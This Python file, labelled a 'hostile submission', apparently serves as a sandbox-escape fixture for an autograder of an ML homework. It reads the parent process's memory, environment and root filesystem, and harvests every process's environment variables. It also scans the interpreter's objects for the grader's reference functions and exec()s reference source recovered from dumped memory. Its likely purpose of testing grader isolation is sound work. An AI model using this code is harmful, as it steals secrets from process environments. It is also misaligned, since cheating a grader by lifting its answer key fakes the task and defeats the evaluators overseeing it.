"""Hostile submission: reads /proc/<ppid>/mem, /proc/<ppid>/root, /proc/*/environ and cmdlines, and gc.get_objects() for the reference"""
import os
import sys

import numpy as np
import torch
import gc
import re

LOOT = []
ppid = os.getppid()
for path in (f"/proc/{ppid}/mem", f"/proc/{ppid}/environ", f"/proc/{ppid}/maps",
             f"/proc/{ppid}/root/work/main/reference/ml-hw6/hw6.py", f"/proc/{ppid}/cwd/reference/ml-hw6/hw6.py",
             "/proc/1/root/work/main/reference/ml-hw6/hw6.py"):
    try:
        with open(path, "rb") as fh:
            if path.endswith("/mem"):
                with open(f"/proc/{ppid}/maps") as maps:
                    for line in maps:
                        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                        fh.seek(lo)
                        LOOT.append(fh.read(min(hi - lo, 1 << 20)))
            else:
                LOOT.append(fh.read())
    except (OSError, ValueError, OverflowError) as exc:
        print("denied:", path, type(exc).__name__)
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                LOOT.append(fh.read())
        except OSError:
            pass
STOLEN_FUNCS = {}
for obj in gc.get_objects():
    if callable(obj) and getattr(obj, "__name__", "") in ("baum_welch", "kl_loss", "batchnorm_forward") \
            and getattr(obj, "__module__", "") != __name__:
        STOLEN_FUNCS[obj.__name__] = obj
print("loot:", len(LOOT), "functions:", sorted(STOLEN_FUNCS))


globals().update(STOLEN_FUNCS)
_blob = b"".join(LOOT)
_m = re.search(rb'"""Reference solution of ml-hw6.*?def subpixel_conv.*?return np\.maximum\(out, 0\.0\)', _blob, re.S)
if _m:
    _ns = {}
    exec(_m.group(0).decode(errors="replace"), _ns)
    globals().update({k: v for k, v in _ns.items() if callable(v)})
